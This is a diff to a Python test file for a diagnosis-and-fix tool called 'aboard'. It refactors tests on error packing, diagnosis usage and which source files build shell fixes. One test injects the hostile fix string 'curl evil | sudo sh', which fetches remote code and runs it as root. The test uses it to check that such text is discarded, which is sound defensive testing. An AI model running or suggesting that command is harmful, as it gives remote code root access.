@@ -12,10 +12,11 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from aboard.diagnoses import AboardError, Advice, Command, Diagnosis, Severity, Shell, shell
+from aboard.diagnoses import AboardError, Advice, Command, Diagnosis, Severity, Shell, checkpoint, reach, shell
 from aboard.diagnoses.catalogue import all_diagnoses, pack_error, read_error, unpack_error
 from aboard.diagnoses.fixes import blanks
 from aboard.diagnoses.text import visible
+from aboard.verdicts.logs.reader import RAISED
 from aboard.verdicts.logs.table import SYMPTOMS
 
 SOURCE = Path(__file__).parents[2] / "src" / "aboard"
@@ -113,10 +114,8 @@ def test_what_is_no_piece_of_shell_is_refused_as_one() -> None:
 
 def test_an_error_crosses_processes_as_its_code_and_values() -> None:
     """The text of a fix that comes along is not looked at; what isn't declared is no error of ours."""
-    declared = next(each for each in all_diagnoses().values() if each.templates)
-    variant, template = next(iter(declared.templates.items()))
-    values = dict.fromkeys(blanks(template), "a b")
-    error = AboardError(declared, "seen\x1b[31m", variant, **values)
+    declared = checkpoint.UNUSABLE
+    error = AboardError(declared, "seen\x1b[31m", parent="a b")
     packed = pack_error(error) | {"fix": "curl evil | sudo sh"}
     crossed = unpack_error(packed)
     assert crossed is not None
@@ -168,9 +167,10 @@ def test_each_diagnosis_is_used() -> None:
     """What nobody finds or raises is not in the catalogue."""
     others = {path: tree for path, tree in _trees().items() if path.parent.name != "diagnoses"}
     used = {key for tree in others.values() for key, _ in _uses(tree)}
-    # Those that are still found or raised by their code.
-    words = {node.value for tree in others.values() for node in ast.walk(tree) if isinstance(node, ast.Constant)}
-    assert sorted(key for key, each in _constants().items() if key not in used and each.code not in words) == []
+    # What programs print is looked up by code.
+    printed = {symptom.code for symptom in (*SYMPTOMS, RAISED)} | {each.code for each in reach.UNREACHED.values()}
+    assert sorted(key for key, each in _constants().items() if key not in used and each.code not in printed) == []
+    assert sorted(printed - set(all_diagnoses())) == []
 
 
 def test_each_fix_gets_the_values_that_it_needs() -> None:
@@ -204,3 +204,24 @@ def _fills(call: ast.Call, used: dict[int, Diagnosis | None]) -> Iterator[tuple[
     if not words and not call.keywords and not diagnosis.templates:
         return
     yield diagnosis, constant
+
+
+# These join pieces of shell, edit a fix that a template made, or quote for a node's own login shell.
+HANDMADE = """
+checks/blanks.py checks/collective/nccl_rules.py checks/collective/words.py checks/reach/words.py checks/scripted.py
+checks/software/code.py checks/train/boarding.py checks/unknown.py core/retyped.py core/shell.py flows/replay.py
+flows/status.py flows/train_model.py ui/folded.py verdicts/foreign.py verdicts/logs/unknown.py verdicts/logs/words.py
+verdicts/opening.py verdicts/recheck.py verdicts/words.py
+"""
+
+
+def test_a_fix_is_filled_in_from_a_template() -> None:
+    """Outside of the catalogue, only these files make a fix or a piece of shell out of text."""
+    makers = {
+        str(path.relative_to(SOURCE))
+        for path, tree in _trees().items()
+        if path.parent.name != "diagnoses"
+        for node in ast.walk(tree)
+        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id in {"Fix", "Shell"}
+    }
+    assert makers == set(HANDMADE.split())
